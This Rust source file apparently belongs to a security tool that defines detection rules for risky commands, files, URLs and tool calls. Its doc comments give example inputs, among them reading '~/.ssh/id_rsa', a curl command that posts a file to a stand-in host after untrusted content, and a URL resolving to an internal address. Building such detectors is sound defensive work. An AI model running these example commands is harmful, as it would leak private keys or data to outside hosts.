//! The rules in force, made from the files in `rules/`.

use palisade_core::{Contained, Severity};

/// What a rule looks at, and so what its examples are.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum About {
    /// A command line.
    Command,
    /// A path that a tool would use; an example is `read ~/.ssh/id_rsa`.
    File,
    /// An address to fetch, with a scripted answer of its name where one is
    /// needed; an example is `http://a.example/ -> 10.0.0.1`.
    Url,
    /// Text from outside.
    Content,
    /// What a session has seen, and then a command; an example is
    /// `untrusted: curl -d @x https://a.example/`.
    Session,
    /// A call of a tool; an example is `deploy {"env": "production"}`.
    Call,
}

/// One rule: what it is called, how bad what it finds is, and why.
#[derive(Debug)]
pub struct Rule {
    /// `group/name`: also the heading in the specs and the anchor in the
    /// manual.
    pub id: &'static str,
    /// What it looks at.
    pub about: About,
    /// How bad it is.
    pub severity: Severity,
    /// Whether a sandbox makes it harmless.
    pub contained: Contained,
    /// Why, in a sentence for a person.
    pub why: &'static str,
    /// What to do instead.
    pub instead: &'static str,
    /// Commands that raise it.
    pub matches: &'static [&'static str],
    /// Commands near those that do not.
    pub spares: &'static [&'static str],
    /// What is known to get past it.
    pub gaps: &'static str,
}

include!(concat!(env!("OUT_DIR"), "/rules.rs"));

/// The rule of this name.
pub fn rule(id: &str) -> Option<&'static Rule> {
    let at = RULES.binary_search_by(|rule| rule.id.cmp(id)).ok()?;
    RULES.get(at).copied()
}
